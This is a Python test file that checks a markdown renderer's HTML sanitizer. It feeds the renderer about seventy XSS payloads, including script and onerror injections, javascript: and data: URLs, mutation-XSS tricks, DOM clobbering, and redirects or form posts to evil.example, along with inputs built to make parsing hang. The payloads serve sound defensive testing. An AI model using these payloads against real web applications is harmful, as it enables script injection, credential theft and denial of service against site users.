"""Nothing that somebody writes acts: HedgeDoc's advisories, OWASP's list of evasions, mutations, clobbering, and texts made to hang."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cartable.pads.markdown import render
from cartable.pads.markdown.clean import ATTRIBUTES, CLASSES, PREFIX, TAGS

pytestmark = pytest.mark.once

SCHEMES = ("http:", "https:", "mailto:", "tel:")
OURS = {"rel", "loading", "type", "disabled", "class"}
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<IMG SRC=`javascript:alert(1)`>",
    "<img src='jav&#x0A;ascript:alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](javascript:alert(1) =10x10)",
    '![x](x" onerror="alert(1) =10x10)',
    "![x](x \"a\\\" onerror='b\" =10x10)",
    "{%pdf javascript:alert(1) %}",
    '{%youtube x"onclick="alert(1) %}',
    "{<img src=x onerror=alert(1)>|<script>}",
    "[name=<img src=x onerror=alert(1)>]",
    '*[x]: "><img src=y onerror=alert(1)>\n\nx',
    "*[<b>]: x\n\n<b>",
    ":::spoiler <img src=x onerror=alert(1)>\n:::",
    "```<img src=x onerror=alert(1)>\nx\n```",
    '```x"onclick="alert(1)\nx\n```',
    "```mermaid\ngraph TD\nclick A \"javascript:alert(1)\"\n```",
    "```csvpreview\n<img src=x onerror=alert(1)>,b\n```",
    "$<img src=x onerror=alert(1)>$",
    "# <img src=x onerror=alert(1)>\n[TOC]",
    "# a\" onclick=\"alert(1)\n[TOC]",
    "---\ntitle: <script>alert(1)</script>\n---\n",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<form action=//evil.example><input name=body><button>x</button></form>",
    "<input type=text name=cookie><input type=image src=x onerror=alert(1)>",
    "<a id=document><a id=document name=cookie>",
    "<img name=getElementById>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<div class='topbar modal'>x</div>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p data-action=x is=cartable-x slot=y>x</p>",
    "<a href=x target=_blank ping=//evil.example>x</a>",
    "<table background='javascript:alert(1)'><td background=x>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a\u2028href=javascript:alert(1)>x</a>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b><a href='//evil.example'>x</b></a><p></b>",
]  # fmt: skip
FRAGMENTS = [
    "<", ">", "\"", "'", "`", "\n", " ", "=", "<script>", "</script>", "<svg>", "<style>", "<!--", "-->", "onerror=", "href=",
    "javascript:", "<a ", "<img ", "[", "](", ")", "![", "{%pdf ", "%}", ":::spoiler ", "```", "$", "++", "==", "|", "{", "}",
    "[name=", "*[a]: ", "a", "&#x6a;", "# ", "- [ ] ", "[TOC]", "<table>", "<math>", "<p title='", "\t", "\\", "é", "😀",
]  # fmt: skip


class Wall(HTMLParser):
    """Reads HTML as a browser begins to, and refuses what is not on the list."""

    def handle_starttag(self, tag, attributes):
        """Refuse an element or an attribute."""
        assert tag in TAGS, tag
        for name, value in attributes:
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | OURS, (tag, name)
            if name in {"href", "src"}:
                address = "".join(one for one in value or "" if one > " ").lower()
                assert address.startswith(SCHEMES) or not re.match(r"[a-z][a-z0-9+.-]*:", address), value
            if name == "id":
                assert value.startswith(PREFIX), value
            if name == "class" and tag != "code":
                assert set(value.split()) <= CLASSES.get(tag, set()), value
        if tag == "input":
            assert dict(attributes).get("type") == "checkbox"
            assert "disabled" in dict(attributes)

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        """Refuse any."""
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def walled(html):
    """Return HTML that the wall let through."""
    wall = Wall()
    wall.feed(html)
    wall.close()
    return html


def test_the_wall_refuses():
    for html in ("<script>", "<a href='javascript:x'>", "<p onclick=x>", "<p id=a>", "<!-- -->", "<input type=text>"):
        with pytest.raises(AssertionError):
            walled(html)


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_no_payload_comes_through(number):
    payload = PAYLOADS[number]
    for text in (
        payload,
        f"a {payload} b",
        f"> - {payload}",
        f"| {payload} |\n|---|\n| {payload} |",
        f"[{payload}](x)",
    ):
        walled(render(text).html)


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join))
def test_no_mixture_comes_through(text):
    walled(render(text).html)


@pytest.mark.parametrize(
    "text",
    [
        "x" * 1_000_000,
        "- " * 10_000 + "x",
        "\n".join(" " * level + "- x" for level in range(400)),
        "> " * 10_000 + "x",
        "[" * 20_000,
        "![" * 20_000,
        "**" * 50_000,
        "++a" * 20_000,
        "{a|" * 20_000,
        "{%" * 20_000,
        "[name=" * 20_000,
        "$" * 50_000,
        "`" * 50_001,
        "<" * 50_000,
        "<!--" * 10_000,
        "&" * 50_000,
        ":::info\n" * 2_000,
        "# a\n" * 5_000 + "[TOC]",
        "*[a]: b\n" * 5_000,
        "[^1]" * 10_000 + "\n\n[^1]: x",
        "|a" * 5_000 + "\n" + "|-" * 5_000,
        "---\n" * 20_000,
        "<div>" * 10_000,
        "a@b." * 20_000,
        "http://" * 10_000,
    ],
    ids=lambda text: repr(text[:8]),
)
def test_a_text_made_to_hang_is_shown_like_another(text):
    """Each takes under a second; what would take minutes is stopped by the limit of every test."""
    walled(render(text).html)
